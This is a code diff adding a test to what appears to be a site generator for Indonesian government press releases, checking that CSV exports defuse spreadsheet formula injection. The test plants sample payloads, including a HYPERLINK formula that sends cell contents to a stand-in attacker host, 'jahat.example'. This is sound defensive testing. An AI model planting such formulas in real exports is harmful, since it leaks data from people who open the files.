@@ -127,3 +127,43 @@ def test_bad_opendata_setting_stops_the_build(tmp_path):
     result = build(FIXTURES / "basic", tmp_path / "out", "-e", 'WARTA_OPENDATA={"licence": 5}')
     assert result.returncode != 0
     assert "WARTA_OPENDATA: licence" in result.log and "bukan 5" in result.log
+
+
+def _replace(path, old: str, new: str) -> None:
+    text = path.read_text(encoding="utf-8")
+    assert old in text, old
+    path.write_text(text.replace(old, new), encoding="utf-8")
+
+
+def test_csv_cells_never_start_a_spreadsheet_formula(fixture_copy, tmp_path):
+    """OWASP's CSV-injection advice: a cell that would start with = + - @ tab or CR starts with ' instead."""
+    content = fixture_copy("basic")
+    releases = content / "releases"
+    link = '=HYPERLINK("http://jahat.example/?c="&A1,"Klik")'
+    summary = "@SUM(1+1) perbaikan jalan desa dimulai pekan depan."
+    _replace(releases / "2024/01/pembangunan.md", "title: Pembangunan Drainase di Tiga Kecamatan", f"title: '{link}'")
+    _replace(releases / "2023/05/imunisasi.md", "title: Dinkes Buka Pekan Imunisasi Anak", "title: -2+3 Kasus Campak")
+    _replace(releases / "2023/05/imunisasi.md", "number: 001/DINKES/V/2023", "number: '+62/DINKES/2023'")
+    _replace(
+        releases / "2023/05/jalan.md",
+        "summary: Perbaikan jalan desa sepanjang dua kilometer dimulai pekan depan.",
+        f"summary: '{summary}'",
+    )
+    result = build(content, tmp_path / "out")
+    assert result.returncode == 0, result.log
+    rows = list(csv.DictReader(io.StringIO(result.read("data/berita.csv"), newline="")))
+    assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert {"'" + link, "'-2+3 Kasus Campak"} <= {row["title"] for row in rows}
+    assert "'+62/DINKES/2023" in {row["number"] for row in rows}
+    assert "'" + summary in {row["summary"] for row in rows}
+    # JSON keeps every value as written; in the CSV only those cells changed, by one leading quote.
+    records = {r["id"]: r for r in json.loads(result.read("data/berita.json"))["records"]}
+    changed = 0
+    for row in rows:
+        for key in ("title", "number", "summary"):
+            written = records[row["id"]][key] or ""
+            if row[key] != written:
+                assert row[key] == "'" + written, (key, row[key], written)
+                changed += 1
+    assert changed == 4
+    assert "awalan tanda kutip tunggal" in result.read("data/index.html")
